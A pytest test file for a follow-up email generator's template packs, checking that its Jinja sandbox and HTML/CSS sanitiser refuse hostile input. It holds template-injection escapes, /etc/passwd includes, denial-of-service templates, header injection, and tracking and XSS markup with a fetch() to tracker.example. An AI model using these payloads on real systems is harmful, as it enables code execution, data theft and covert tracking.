"""Packs: finding them, extending them, and the sandbox that makes a shared pack safe."""

from __future__ import annotations

import os

import pytest
from conftest import INTERVIEWERS, ROLE, TODAY, profile

from generator.compose.packs import available_packs, load_pack
from generator.errors import PackError
from generator.output.previous import read_manifest


def _draft(tree, run, files, *extra):
    root = tree({**profile(), **{f"pack/{k}": v for k, v in files.items()}})
    result = run("drafts", "profiles", "-o", "out", "--today", TODAY, "--pack", "./pack",
                 "--kind", "thank-you", *extra)
    return root, result


def test_unknown_pack_lists_the_packs_there_are(tree, run):
    tree(profile())
    result = run("drafts", "profiles", "--pack", "nosuch")
    assert result.exit_code == 1
    assert result.stderr.splitlines()[0] == (
        "unknown pack 'nosuch'; the packs there are: brief, default, es, formal")


def test_a_folder_without_pack_yaml_is_not_a_pack(tree, run):
    tree({**profile(), "pack/thank-you.md.j2": "x"})
    result = run("drafts", "profiles", "--pack", "./pack")
    assert result.stderr.splitlines()[0] == "pack: is not a template pack (no pack.yaml in it)"


def test_project_templates_folder_provides_named_packs(tree, run):
    root = tree({**profile(), "templates/house/pack.yaml": "name: house\nextends: default\n",
                 "templates/house/thank-you.md.j2": "House note for {{ recipient.name }}.\n"})
    assert "house" in available_packs(root)
    result = run("drafts", "profiles", "-o", "out", "--pack", "house", "--kind", "thank-you")
    assert result.exit_code == 0, result.output
    assert (root / "out/acme/thank-you/priya-raman.txt").read_text() == (
        "House note for Priya Raman.\n")


def test_role_yaml_names_its_pack_and_the_option_wins(tree, run):
    root = tree({**profile(), "templates/house/pack.yaml": "name: house\nextends: default\n",
                 "templates/house/status-check.md.j2": "House check.\n"})
    (root / "profiles/acme/role.yaml").write_text(
        (root / "profiles/acme/role.yaml").read_text() + "pack: house\n")
    run("drafts", "profiles", "-o", "out", "--kind", "status-check")
    assert (root / "out/acme/status-check/dana-lee.txt").read_text() == "House check.\n"
    run("drafts", "profiles", "-o", "out", "--kind", "status-check", "--pack", "default",
        "--force")
    assert (root / "out/acme/status-check/dana-lee.txt").read_text().startswith("Hi Dana,")


def test_an_override_can_extend_the_template_it_replaces(tree, run):
    root, result = _draft(tree, run, {
        "pack.yaml": "name: warm\nextends: default\n",
        "thank-you.md.j2": '{% extends "default:thank-you.md.j2" %}\n',
        "signature.md.j2": "Warmly,  \n{{ candidate.name }}\n",
    })
    assert result.exit_code == 0, result.output
    text = (root / "out/acme/thank-you/priya-raman.txt").read_text()
    assert text.startswith("Hi Priya,")  # the default body...
    assert text.endswith("Warmly,\nJordan Rivera\n")  # ...with this pack's signature


def test_a_pack_can_override_the_subject(tree, run):
    root, result = _draft(tree, run, {
        "pack.yaml": "name: s\nextends: default\nkinds:\n  thank-you:\n"
                     "    subject: \"Thanks {{ '\\\\n  ' ~ recipient.salutation }}"
                     "{{ '\\\\r\\\\nBcc: x@evil.example' }}\"\n",
    })
    assert result.exit_code == 0, result.output
    rows = read_manifest(root / "out")[0]
    # Newlines a pack writes into a subject are folded: a header can never be injected.
    assert {r["subject"] for r in rows} >= {"Thanks Priya Bcc: x@evil.example"}


def test_extends_in_a_circle_is_an_error(tmp_path):
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    (tmp_path / "a/pack.yaml").write_text(f"name: a\nextends: {tmp_path / 'b'}\n")
    (tmp_path / "b/pack.yaml").write_text(f"name: b\nextends: {tmp_path / 'a'}\n")
    with pytest.raises(PackError, match="packs extend each other in a circle"):
        load_pack(str(tmp_path / "a"))


def test_pack_yaml_mistakes_name_file_line_and_field(tree, run):
    _, result = _draft(tree, run, {"pack.yaml": "name: x\nkinds:\n  thank-you:\n"
                                                "    audience: everybody\n"})
    assert result.stderr.splitlines()[0] == (
        "pack/pack.yaml:4: kinds.thank-you.audience: 'everybody' is not allowed; choose one of "
        "interviewers, contact, contact-or-interviewer, outcome-from, all")


@pytest.mark.parametrize("template,message", [
    ("{% if %}", "pack/thank-you.md.j2:1: template syntax error: Expected an expression, "
                 "got 'end of statement block'"),
    ("line one\n{{ recipient.nmae }}", "pack/thank-you.md.j2:2: 'dict object' has no "
                                       "attribute 'nmae'"),
    ("{{ nothing_here }}", "pack/thank-you.md.j2:1: 'nothing_here' is undefined"),
])
def test_template_mistakes_name_the_template_and_line(tree, run, template, message):
    _, result = _draft(tree, run, {"pack.yaml": "name: x\nextends: default\n",
                                   "thank-you.md.j2": template})
    assert result.exit_code == 1
    assert result.stderr.splitlines()[0] == message
    assert "Traceback" not in result.output


def test_a_template_mistake_every_application_shares_is_said_once(tree, run):
    # review of issue 19 (L3): it was said once per application made with the pack
    tree({**profile({"beta/role.yaml": ROLE.replace("Acme Robotics", "Beta Labs"),
                     "beta/interviewers.yaml": INTERVIEWERS}),
          "pack/pack.yaml": "name: x\nextends: default\n",
          "pack/thank-you.md.j2": "line one\n{{ nothing_here }}"})
    result = run("drafts", "profiles", "-o", "out", "--today", TODAY, "--pack", "./pack")
    assert result.exit_code == 1
    assert result.stderr.splitlines() == ["pack/thank-you.md.j2:2: 'nothing_here' is undefined",
                                          "followup: 1 problem; nothing was written."]


PAYLOADS = [
    "{{ cycler.__init__.__globals__.os.system('echo pwned') }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ recipient.__class__ }}",
    "{{ ''.__class__ }}",
    "{{ 'a' * 10**8 }}",
    "{{ 9 ** 999999 }}",
    "{{ 'x'.ljust(10**9) }}",
    "{{ 'x' | center(999999999) }}",
    "{{ '{:>999999999}'.format('x') }}",
    "{{ '{:>{w}}'.format('x', w=999999999) }}",
    "{{ '%999999999s' % 'x' }}",
    "{{ '%999999999s' | format('x') }}",
    "{% for i in range(99999) %}{% for j in range(99999) %}x{% endfor %}{% endfor %}",
    "{{ lipsum(100000) }}",
    "{% include '../../../../../../etc/passwd' %}",
    "{% include '/etc/passwd' %}",
    "{% macro r() %}{{ r() }}{% endmacro %}{{ r() }}",
    "{% for i in range(1000) %}{% for j in range(1000) %}{% endfor %}{% endfor %}",
    "{% for i in 'x' * 9000 %}{% for j in 'y' * 9000 %}{% endfor %}{% endfor %}",
    "{% set a = 'x' * 9000 %}{% set b = a ~ a %}{% set c = b ~ b %}{% set d = c ~ c %}{{ d }}",
    "{% set a = 'x' * 9000 %}{{ a | replace('', a) }}",
    "{% set a = 'x' * 9000 %}{{ a.replace('', a) }}",
    "{{ (range(1000) | list) | join('x' * 9000) }}",
    "{{ ('\\t' * 9000).expandtabs(1000) }}",
    "{{ ['x'] * 9000 | map('center', 1000) | join }}",
    "{{ '- ' * 4000 }}x",
    "{% if true %}" * 120 + "x" + "{% endif %}" * 120,
    # A method call's result is bounded too, and a join or replace is measured before it is
    # built (the first took 2 GB in 2.4 s when only arguments were checked).
    "{% set s = 'x' * 10000 %}{{ s.join([s] * 10000) | length }}",
    "{% set s = 'x' * 10000 %}{{ s.join(([s] * 10000) | map('lower')) | length }}",
    "{% set s = 'x' * 10000 %}{{ s.replace('x', 'y' * 1000) | length }}",
    "{% set a = 'x' * 9000 %}{% set a = a + a %}{% set a = a + a %}{{ a | length }}",
    "{% set l = [1] * 9000 %}{{ (l + l + l) | length }}",
    "{% set s = 'x' * 9000 %}{{ (s ~ s).upper().join([s, s]) | length }}",
    # Each product under the cap on numbers, but squared on and on: millions of digits, ten
    # minutes of a core (an adversarial review's find), and a power of a large base.
    "{% set a = 999999999 * 999999999 %}{% set b = a*a*a*a*a*a*a*a %}{% set c = b*b*b*b*b*b*b*b"
    " %}{% set d = c*c*c*c*c*c*c*c %}{{ d > 0 }}",
    "{% set a = 999999999 * 999999999 %}{{ (a * a) ** 60 > 0 }}",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_sandbox_refuses_escapes_and_unbounded_work(tree, run, payload):
    root, result = _draft(tree, run, {"pack.yaml": "name: x\nextends: default\n",
                                      "thank-you.md.j2": payload})
    assert result.exit_code == 1
    assert result.stderr.startswith("pack/thank-you.md.j2") or "not found" in result.stderr
    assert "pwned" not in result.output
    assert "root:" not in result.output
    assert not (root / "out").exists()


def test_a_loop_in_a_subject_is_bounded(tree, run):
    _, result = _draft(tree, run, {"pack.yaml": (
        "name: x\nextends: default\nkinds:\n  thank-you:\n    subject: \"{% for i in range(999)"
        " %}{% for j in range(999) %}{% endfor %}{% endfor %}x\"\n")})
    assert result.exit_code == 1
    assert "loops ran more than" in result.stderr


def test_a_huge_template_file_is_refused_before_it_is_read(tree, run):
    _, result = _draft(tree, run, {"pack.yaml": "name: x\nextends: default\n",
                                   "thank-you.md.j2": "x" * 300_000})
    assert result.exit_code == 1
    assert "is larger than" in result.stderr


def test_a_symlink_out_of_the_pack_is_refused(tree, run):
    secret = "secret: do not read"
    root = tree({**profile(), "secret.txt": secret,
                 "pack/pack.yaml": "name: x\nextends: default\n",
                 "pack/thank-you.md.j2": "{% include 'leak.md.j2' %}"})
    os.symlink(root / "secret.txt", root / "pack/leak.md.j2")
    result = run("drafts", "profiles", "-o", "out", "--pack", "./pack", "--kind", "thank-you")
    assert result.exit_code == 1
    assert "resolves outside its pack" in result.stderr
    assert secret not in result.output


def test_pack_paths_are_found_from_the_file_that_names_them(tree, run):
    root = tree({
        **profile(),
        "packs/base/pack.yaml": "name: base\nextends: default\n",
        "packs/base/signature.md.j2": "From the base pack\n",
        "packs/child/pack.yaml": "name: child\nextends: ../base\n",
    })
    with open(root / "profiles/acme/role.yaml", "a") as role:
        role.write("pack: ../../packs/child\n")
    result = run("drafts", "profiles", "-o", "out", "--kind", "thank-you")
    assert result.exit_code == 0, result.output
    assert "pack child" in result.output
    assert (root / "out/acme/thank-you/priya-raman.txt").read_text().endswith(
        "From the base pack\n")


def test_a_missing_parent_pack_points_at_extends(tree, run):
    _, result = _draft(tree, run, {"pack.yaml": "name: x\nextends: ./nowhere\n"})
    assert result.stderr.splitlines()[0] == (
        "pack/pack.yaml:2: extends: is not a template pack (no pack.yaml in it)")


# A shared pack's layout and CSS are untrusted like its templates: each line of HOSTILE is
# something no draft may carry (the tracking pixel, scripts, event handlers, remote
# styles), and MARKERS what would show that one got through.
HOSTILE_LAYOUT = """\
<!DOCTYPE html>
<html lang="{{ lang }}">
<head><title>{{ subject }}</title>
<style>{{ css }}</style>
<link rel="stylesheet" href="https://tracker.example/s.css">
<base href="https://tracker.example/">
<meta http-equiv="refresh" content="0; url=https://tracker.example/">
</head>
<body onload="steal()" style="background-image: url(https://tracker.example/b.png)">
<img src="https://tracker.example/p.gif?to={{ recipient.email|urlencode }}">
<img src="//tracker.example/p2.gif"><img srcset="https://tracker.example/p3.gif 1x">
<script>fetch('https://tracker.example/' + document.body.innerText)</script>
<a href="javascript:alert(1)" onclick="steal()">click</a><a href=" java&#10;script:x">x</a>
<iframe src="https://tracker.example/f"></iframe><form action="https://tracker.example/"></form>
<svg onload="steal()"><image href="https://tracker.example/s.png"/></svg>
<table background="https://tracker.example/t.png"><tr><td>{{ body }}</td></tr></table>
<p style="behavior: url(x.htc); color: red">styled</p>
<p style="background: u\\72l(https://tracker.example/escaped.png)">escaped</p>
<noscript><p title="</noscript><img src=x onerror=steal()>"></p></noscript>
</body></html>
"""
HOSTILE_CSS = """\
@import url(https://tracker.example/more.css);
@import "https://tracker.example/quoted.css";
p { color: #111; background: url(https://tracker.example/bg.png); }
@font-face { font-family: x; src: url(https://tracker.example/font.woff); }
.note { background-image: image-set("https://tracker.example/set.png" 1x); }
</style><script>alert(2)</script><style>
"""
MARKERS = ["tracker.example", "<script", "javascript", "onload", "onclick", "onerror",
           "@import", "<iframe", "<form", "<svg", "<link", "<base", "refresh", "srcset",
           "behavior", "url("]


def test_a_hostile_layout_and_css_never_reach_a_draft(tree, run):
    root, result = _draft(tree, run, {"pack.yaml": "name: x\nextends: default\n",
                                      "layout.html.j2": HOSTILE_LAYOUT,
                                      "style.css": HOSTILE_CSS})
    assert result.exit_code == 0, result.output
    drafts = sorted((root / "out/acme").rglob("*.*"))
    assert drafts
    for path in drafts:
        text = path.read_text()
        if path.suffix == ".eml":  # the HTML part may be quoted-printable or base64
            import email
            from email import policy
            message = email.message_from_string(text, policy=policy.default)
            text = message.get_body(("html",)).get_content()
        for marker in MARKERS:
            assert marker not in text.lower(), f"{marker} in {path.name}"
    html = (root / "out/acme/thank-you/priya-raman.html").read_text()
    assert "event sourcing" in html and "<table" in html and 'style="color: red' in html


def test_packs_check_names_what_it_removed_from_the_layout_and_css(tree, run):
    tree({"pack/pack.yaml": "name: x\nextends: default\n",
          "pack/layout.html.j2": HOSTILE_LAYOUT, "pack/style.css": HOSTILE_CSS})
    result = run("packs", "check", "./pack")
    assert result.exit_code == 1
    [problem] = result.stderr.splitlines()
    assert problem.startswith("thank-you (standard, on time) to Priya Raman: pack/layout.html.j2"
                              " or pack/style.css writes what an email may not hold")
    for removed in ("<script> and its content", "src='https://tracker.example/p.gif?…' on <img>",
                    "onclick='steal()' on <a>", "href='javascript:alert(1)' on <a>",
                    "@import url(https://tracker.example/more.css); in the CSS",
                    "<iframe> and its content"):
        assert removed in problem
    assert result.output.splitlines()[-1] == "pack x: 29 drafts made, 1 problem."


def test_a_clean_layout_keeps_what_email_needs(tree, run):
    layout = ('<!DOCTYPE html><html lang="{{ lang }}"><head><title>{{ subject }}</title>'
              "<style>{{ css }}</style></head><body><table role=\"presentation\" "
              'cellpadding="0"><tr><td colspan="2" style="padding: 8px">{{ body }}</td></tr>'
              '</table><p><a href="tel:+15550100">call</a> <a href="mailto:j@example.com">'
              'mail</a> <img src="data:image/png;base64,iVBORw0KGgo=" alt="logo"></p>'
              "</body></html>")
    css = "@media (max-width: 600px) { td { padding: 2px !important; } }\np { color: #222; }\n"
    root, result = _draft(tree, run, {"pack.yaml": "name: x\nextends: default\n",
                                      "layout.html.j2": layout, "style.css": css})
    assert result.exit_code == 0, result.output
    html = (root / "out/acme/thank-you/priya-raman.html").read_text()
    for kept in ('<html lang="en">', '<table role="presentation" cellpadding="0">',
                 '<td colspan="2" style="padding: 8px">', 'href="tel:+15550100"',
                 'href="mailto:j@example.com"', 'src="data:image/png;base64,iVBORw0KGgo="',
                 "@media (max-width: 600px)", 'style="color: #222;"'):
        assert kept in html
    assert run("packs", "check", "./pack", "-q").exit_code == 0


def test_a_huge_panel_is_not_blamed_on_the_pack(tmp_path):
    # 1,500 interviewers: the contact's note names them all, 40,000 characters that are the
    # user's data, not the pack's doing. The sandbox's limits grow with the data.
    from datetime import date

    from conftest import write_tree

    from generator.compose.inline import make_inliner
    from generator.compose.recipients import plan_drafts
    from generator.compose.render import Renderer
    from generator.input.models import KINDS
    from generator.input.sources import load_applications

    people = "".join(f"- name: Alexandra-Konstantina{i} Papadopoulou-Vasilakis{i}\n"
                     f"  email: p{i}@acme.example\n" for i in range(1500))
    write_tree(tmp_path, profile({"acme/interviewers.yaml": people}))
    [app] = load_applications(tmp_path / "profiles")
    pack = load_pack("default")
    specs, _ = plan_drafts(app, pack, KINDS, date(2026, 11, 20))
    [to_contact] = [s for s in specs if s.kind == "thank-you" and s.recipient.name == "Dana Lee"]
    draft = Renderer(pack, make_inliner("css-inline")).render(to_contact, date(2026, 11, 20))
    assert "Alexandra-Konstantina1499" in draft.text and len(draft.text) > 20_000


def test_a_subject_the_template_fills_with_an_invisible_character_is_refused(tree, run):
    # written as a Jinja escape, so the pack file itself holds only ASCII
    _, result = _draft(tree, run, {"pack.yaml": (
        "name: x\nextends: default\nkinds:\n  thank-you:\n    subject: "
        r"""'{{ "Thank you" ~ "\u202e" ~ "evil" }}'""" "\n")})
    assert result.exit_code == 1
    assert "the subject holds an invisible character (U+202E)" in result.stderr
